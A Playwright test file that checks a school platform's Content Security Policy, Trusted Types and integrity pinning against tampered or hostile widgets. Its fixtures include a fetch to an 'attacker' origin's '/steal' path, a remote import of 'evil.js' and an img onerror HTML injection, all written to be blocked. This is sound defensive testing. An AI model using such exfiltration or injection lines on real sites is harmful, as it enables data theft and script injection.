/**
 * The shell page's Content Security Policy and integrity pinning (issue 5, points 3 and 4), in real Chromium: widget
 * bytes that differ from their manifest's hashes never run; a widget cannot fetch or import from an origin nobody
 * approved, nor write HTML past Trusted Types; and normal use reports no violation at all.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { Page } from 'playwright-core';
import { startVendorHost, type StaticHost } from '../../scripts/static-hosts.ts';
import { settledWidgets, signIn, usePlatform } from './harness.ts';

const FIXTURE_PORT = 4291;
const FIXTURE_ORIGIN = `http://localhost:${FIXTURE_PORT}`;
/** An origin no manifest names: the "attacker's" server. */
const UNDECLARED_PORT = 4292;
const UNDECLARED_ORIGIN = `http://localhost:${UNDECLARED_PORT}`;

const sri = (text: string): string => `sha384-${createHash('sha384').update(text, 'utf8').digest('base64')}`;

/** A module federation remote container, hand-written: `mount` is the body of the widget's mount lifecycle. */
function container(preamble: string, mount: string): string {
  return `${preamble}
const lifecycles = {
  async bootstrap() {},
  async mount({ domElement }) { ${mount} },
  async unmount({ domElement }) { domElement.replaceChildren(); },
};
export async function init() {}
export async function get() { return () => ({ default: lifecycles }); }
`;
}

const ran = (name: string): string => `(globalThis.fixtureRan ??= []).push(${JSON.stringify(name)});`;
const GOOD_CHUNK = `${ran('pinned chunk')}\nexport const label = 'Pinned widget ran';\n`;
const GOOD_ENTRY = container(
  `import { label } from './chunk.js';\n${ran('pinned entry')}`,
  `const p = document.createElement('p'); p.className = 'fixture-text'; p.textContent = label; domElement.append(p);`,
);

/** Each fixture folder: the files served, and the files the manifest pins (the "approved" bytes). */
const FIXTURES: Record<string, { served: Record<string, string>; pinned?: Record<string, string> }> = {
  pinned: { served: { 'remoteEntry.js': GOOD_ENTRY, 'chunk.js': GOOD_CHUNK }, pinned: { 'remoteEntry.js': GOOD_ENTRY, 'chunk.js': GOOD_CHUNK } },
  'tampered-chunk': {
    served: { 'remoteEntry.js': GOOD_ENTRY, 'chunk.js': `${ran('tampered chunk')}\nexport const label = 'Tampered';\n` },
    pinned: { 'remoteEntry.js': GOOD_ENTRY, 'chunk.js': GOOD_CHUNK },
  },
  'tampered-entry': {
    served: { 'remoteEntry.js': `${ran('tampered entry')}\n${GOOD_ENTRY}`, 'chunk.js': GOOD_CHUNK },
    pinned: { 'remoteEntry.js': GOOD_ENTRY, 'chunk.js': GOOD_CHUNK },
  },
  exfiltrate: {
    served: {
      'remoteEntry.js': container(
        '',
        `const p = document.createElement('p'); p.className = 'fixture-text'; domElement.append(p);
        const sent = await fetch('${UNDECLARED_ORIGIN}/steal?who=pupil').then(() => 'sent', () => 'blocked');
        const imported = await import('${UNDECLARED_ORIGIN}/evil.js').then(() => 'ran', () => 'blocked');
        p.textContent = 'fetch ' + sent + ', import ' + imported;`,
      ),
    },
  },
  'html-injection': {
    served: {
      'remoteEntry.js': container('', `domElement.innerHTML = '<img src="x" onerror="globalThis.injected = true">';`),
    },
  },
};

const fixtureDir = mkdtempSync(join(tmpdir(), 'digione-csp-fixtures-'));
for (const [name, { served }] of Object.entries(FIXTURES)) {
  mkdirSync(join(fixtureDir, name));
  for (const [file, text] of Object.entries(served)) writeFileSync(join(fixtureDir, name, file), text);
}

function manifest(name: string): { id: string } & Record<string, unknown> {
  const { pinned } = FIXTURES[name]!;
  const id = `fixture.csp-${name}`;
  return {
    id,
    version: '1.0.0',
    vendor: { id: 'fixture', name: 'Fixture Oy' },
    title: { fi: `Testi ${name}`, sv: `Test ${name}`, en: `Test ${name}` },
    description: { fi: 'Testipalvelu.', sv: 'Testtjänst.', en: 'A test service.' },
    kind: 'module',
    entry: `${FIXTURE_ORIGIN}/${name}/remoteEntry.js`,
    ...(pinned
      ? {
          integrity: sri(pinned['remoteEntry.js']!),
          chunks: Object.fromEntries(Object.entries(pinned).filter(([f]) => f !== 'remoteEntry.js').map(([f, t]) => [f, sri(t)])),
        }
      : {}),
    federation: { name: `fixture_csp_${name.replace(/-/g, '_')}`, expose: './widget' },
    sdk: '^0.2.0',
    roles: ['pupil'],
    scopes: [],
    locales: ['fi', 'sv', 'en'],
    sizes: ['s', 'm'],
  };
}

const NAMES = Object.keys(FIXTURES);
const ctx = usePlatform(
  NAMES.map((name) => ({ tenant: 'vantaa', role: 'pupil', widget: `fixture.csp-${name}`, instanceId: `csp-${name}`, size: 's' as const })),
  { catalogue: () => NAMES.map(manifest) },
);

/** Collects the page's CSP violations from before the shell's first script. */
async function watchViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const seen: Array<{ directive: string; blocked: string; sample: string }> = [];
    (window as unknown as { cspViolations: typeof seen }).cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI, sample: event.sample });
    });
  });
}

const violations = (page: Page) =>
  page.evaluate(() => (window as unknown as { cspViolations: Array<{ directive: string; blocked: string; sample: string }> }).cspViolations);

let fixtureHost: StaticHost;
let undeclared: Server;
const undeclaredRequests: string[] = [];

before(async () => {
  fixtureHost = await startVendorHost({
    port: FIXTURE_PORT,
    widgets: Object.fromEntries(NAMES.map((name) => [name, join(fixtureDir, name)])),
    allowedOrigins: ['http://localhost:4173'],
  });
  undeclared = createServer((request, response) => {
    undeclaredRequests.push(request.url ?? '');
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end('globalThis.evil = true;');
  });
  await new Promise<void>((resolve) => undeclared.listen(UNDECLARED_PORT, 'localhost', resolve));
});

after(async () => {
  await fixtureHost?.close();
  await new Promise((resolve) => undeclared?.close(resolve));
});

describe('content security policy and integrity', () => {
  test('the page is served with a CSP built from the approvals and an import map pinning every approved file', async () => {
    const response = await fetch(`${ctx.platform.urls.shell}/`);
    const csp = response.headers.get('content-security-policy') ?? '';
    const directive = (name: string): string[] => (csp.split(';').map((d) => d.trim().split(/\s+/)).find(([n]) => n === name) ?? []).slice(1);
    assert.ok(directive('script-src').includes(FIXTURE_ORIGIN), 'approved widget origins may run scripts');
    assert.ok(directive('script-src').includes('http://localhost:4201'), 'the reference vendors too');
    assert.ok(!directive('script-src').includes(UNDECLARED_ORIGIN));
    assert.ok(!directive('script-src').some((s) => s === "'unsafe-inline'" || s === "'unsafe-eval'" || s === '*'));
    assert.ok(directive('connect-src').includes('http://localhost:4175'), 'the platform API');
    assert.ok(!directive('connect-src').includes(UNDECLARED_ORIGIN));
    assert.deepEqual(directive('require-trusted-types-for'), ["'script'"]);
    assert.deepEqual(directive('object-src'), ["'none'"]);
    const html = await response.text();
    const map = /<script type="importmap">([^<]*)<\/script>/.exec(html);
    assert.ok(map, 'the page carries an integrity import map');
    const { integrity } = JSON.parse(map[1]!) as { integrity: Record<string, string> };
    assert.equal(integrity[`${FIXTURE_ORIGIN}/pinned/remoteEntry.js`], sri(GOOD_ENTRY));
    assert.equal(integrity[`${FIXTURE_ORIGIN}/pinned/chunk.js`], sri(GOOD_CHUNK));
    assert.equal(integrity[`${FIXTURE_ORIGIN}/pinned/remoteEntry.js?digione-retry=1`], sri(GOOD_ENTRY));
    assert.ok(html.indexOf('type="importmap"') < html.indexOf('type="module"'), 'the import map comes before any module script');
  });

  test('tampered bytes never run, undeclared origins and HTML injection are refused, and the rest of the page works', async () => {
    const page = await ctx.browser.newPage();
    await watchViolations(page);
    await signIn(page, ctx.platform.urls.shell, 'pupil');
    const states = await settledWidgets(page, 3 + NAMES.length);
    const frame = (name: string) => page.locator(`[data-widget="fixture.csp-${name}"]`);

    // Pinned bytes that match run; the reference widgets (not pinned in the sandbox) run too.
    assert.equal(states['fixture.csp-pinned'], 'ready');
    await frame('pinned').getByText('Pinned widget ran').waitFor();
    for (const id of ['kajo.schedule', 'lumo.messages', 'lumo.bulletin']) assert.equal(states[id], 'ready', id);

    // A chunk or an entry whose bytes differ from the manifest's hashes is refused before any of it runs.
    for (const name of ['tampered-chunk', 'tampered-entry']) {
      assert.equal(states[`fixture.csp-${name}`], 'error', name);
      assert.equal(await frame(name).getAttribute('data-error'), 'integrity', name);
    }
    await frame('tampered-chunk').getByText(/not the version your municipality approved|ei ole kuntasi hyväksymä versio/).waitFor();
    assert.deepEqual(await page.evaluate(() => (globalThis as { fixtureRan?: string[] }).fixtureRan?.sort()), ['pinned chunk', 'pinned entry']);

    // Retrying a tampered widget refuses again: the retry URL is pinned too.
    await frame('tampered-entry').getByRole('button').click();
    await page.waitForFunction(() => document.querySelector('[data-widget="fixture.csp-tampered-entry"]')?.getAttribute('data-state') === 'error');
    assert.equal(await frame('tampered-entry').getAttribute('data-error'), 'integrity');
    assert.deepEqual(await page.evaluate(() => (globalThis as { fixtureRan?: string[] }).fixtureRan?.length), 2);

    // An in-page widget can reach neither an origin nobody declared nor run code from it.
    assert.equal(states['fixture.csp-exfiltrate'], 'ready');
    await frame('exfiltrate').getByText('fetch blocked, import blocked').waitFor();
    assert.deepEqual(undeclaredRequests, [], 'the undeclared origin never heard from the page');
    assert.equal(await page.evaluate(() => (globalThis as { evil?: boolean }).evil), undefined);

    // Writing HTML into the page is refused by Trusted Types: the widget fails alone, its handler never runs.
    assert.equal(states['fixture.csp-html-injection'], 'error');
    assert.equal(await page.evaluate(() => (globalThis as { injected?: boolean }).injected), undefined);

    const seen = await violations(page);
    const about = (directive: string, blocked: string) => seen.some((v) => v.directive === directive && v.blocked.startsWith(blocked));
    assert.ok(about('connect-src', UNDECLARED_ORIGIN), JSON.stringify(seen));
    assert.ok(about('script-src-elem', UNDECLARED_ORIGIN) || about('script-src', UNDECLARED_ORIGIN), JSON.stringify(seen));
    assert.ok(about('require-trusted-types-for', 'trusted-types-sink'), JSON.stringify(seen));
    assert.equal(seen.length, 3, `only the three provoked violations: ${JSON.stringify(seen)}`);

    // The shell keeps working: switching the language repaints every frame.
    await page.getByRole('button', { name: 'Svenska' }).click();
    await page.waitForFunction(() => document.documentElement.lang === 'sv');
    assert.equal(await page.locator('[data-widget="kajo.schedule"]').getAttribute('data-state'), 'ready');

    // The browser reported the same three to the shell's host; they are this test's, not normal use.
    await waitFor(() => ctx.platform.cspReports.length >= 3);
    const reported = ctx.platform.cspReports.splice(0);
    assert.ok(reported.every((r) => r.documentUri.startsWith(ctx.platform.urls.shell)), JSON.stringify(reported));
    assert.ok(reported.some((r) => r.blockedUri.startsWith(UNDECLARED_ORIGIN)), JSON.stringify(reported));
    await page.close();
  });

  test('teachers and guardians use their dashboards with no violation', async () => {
    for (const user of ['teacher', 'guardian']) {
      const page = await ctx.browser.newPage();
      await watchViolations(page);
      await signIn(page, ctx.platform.urls.shell, user);
      const states = await settledWidgets(page, 1);
      assert.ok(Object.values(states).every((s) => s === 'ready'), `${user}: ${JSON.stringify(states)}`);
      await page.getByRole('button', { name: 'English' }).click();
      await page.waitForFunction(() => document.documentElement.lang === 'en');
      assert.deepEqual(await violations(page), [], user);
      await page.close();
    }
  });
});

/** Polls `condition` (reports arrive over HTTP after the page saw them); gives up after 10 s. */
async function waitFor(condition: () => boolean): Promise<void> {
  const deadline = Date.now() + 10_000;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error('condition not met within 10 s');
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}
